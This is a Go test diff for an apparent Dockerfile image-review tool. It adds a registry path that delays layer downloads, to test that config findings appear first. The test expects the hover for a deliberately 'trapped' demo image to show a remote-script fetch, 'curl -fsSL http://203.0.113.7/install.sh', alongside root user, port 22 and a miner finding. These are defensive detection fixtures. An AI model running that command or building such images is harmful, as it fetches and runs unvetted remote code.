@@ -34,6 +34,9 @@ type imageRegistry struct {
 	digests map[string]string // repo:tag -> index digest
 	demo    map[string]v1.ImageIndex
 	push    func(repoTag string, img v1.ImageIndex)
+	// configs are the config blob digests of the demo images: "partial/" serves them, and
+	// holds the layers at the gate.
+	configs map[string]bool
 
 	mu      sync.Mutex
 	gate    chan struct{}
@@ -62,7 +65,8 @@ func newImageRegistry(t testing.TB) *imageRegistry {
 			_, _ = io.WriteString(w, "{{{ not a manifest")
 			return
 		}
-		if strings.HasPrefix(r.URL.Path, "/v2/slow/") {
+		if strings.HasPrefix(r.URL.Path, "/v2/slow/") || (strings.HasPrefix(r.URL.Path, "/v2/partial/") &&
+			strings.Contains(r.URL.Path, "/blobs/") && !ir.isConfig(r.URL.Path)) {
 			ir.mu.Lock()
 			gate := ir.gate
 			ir.waiting++
@@ -99,6 +103,24 @@ func newImageRegistry(t testing.TB) *imageRegistry {
 		demo[n[strings.LastIndex(n, "/")+1:]] = child // "trapped:1.0", "clean:1.0"
 	}
 	ir.demo = demo
+	ir.configs = map[string]bool{}
+	for _, ix := range demo {
+		m, err := ix.IndexManifest()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, d := range m.Manifests {
+			img, err := ix.Image(d.Digest)
+			if err != nil {
+				t.Fatal(err)
+			}
+			cn, err := img.ConfigName()
+			if err != nil {
+				t.Fatal(err)
+			}
+			ir.configs[cn.String()] = true
+		}
+	}
 	push := func(repoTag string, img v1.ImageIndex) {
 		ref, err := name.ParseReference(ir.host + "/" + repoTag)
 		if err != nil {
@@ -122,10 +144,16 @@ func newImageRegistry(t testing.TB) *imageRegistry {
 		push("slow/img"+string(rune('a'+i))+":1", demo["clean:1.0"])
 	}
 	push("slow/trapped:1.0", demo["trapped:1.0"])
+	push("partial/trapped:1.0", demo["trapped:1.0"])
 	ir.mu.Lock()
 	ir.gate, ir.open = make(chan struct{}), false
 	ir.mu.Unlock()
 	return ir
+}
+
+// isConfig reports a blob request for a config.
+func (ir *imageRegistry) isConfig(path string) bool {
+	return ir.configs[path[strings.LastIndexByte(path, '/')+1:]]
 }
 
 // release lets the requests to "slow/" through, now and later.
@@ -591,4 +619,25 @@ func TestImageReviewCommandAndStalePin(t *testing.T) {
 		"arguments": []any{uri}}, nil); err == nil {
 		t.Errorf("an unknown command succeeded")
 	}
+}
+
+// TestImageConfigBeforeLayers: while the layers are held, the config is known: config findings
+// are published, and the hover shows the config with the layers still pending.
+func TestImageConfigBeforeLayers(t *testing.T) {
+	reg := newImageRegistry(t)
+	env, _ := newImageEnv(t)
+	uri := "file:///w/Dockerfile"
+	env.Open(uri, "FROM "+reg.host+"/partial/trapped:1.0\n")
+	diags := codes(waitDiagnostic(t, env, uri, "ImageOnBuild"))
+	if _, ok := diags["LayerMiner"]; ok {
+		t.Errorf("layer findings before the layers were read")
+	}
+	h := hoverText(t, env, uri, env.At(uri, "partial/trapped"))
+	for _, want := range []string{"reviewing layers", "| User | root (not set) |", "| Ports | 22/tcp |", "curl -fsSL http://203.0.113.7/install.sh"} {
+		if !strings.Contains(h, want) {
+			t.Errorf("hover with the config known lacks %q:\n%s", want, h)
+		}
+	}
+	reg.release()
+	waitDiagnostic(t, env, uri, "LayerMiner")
 }
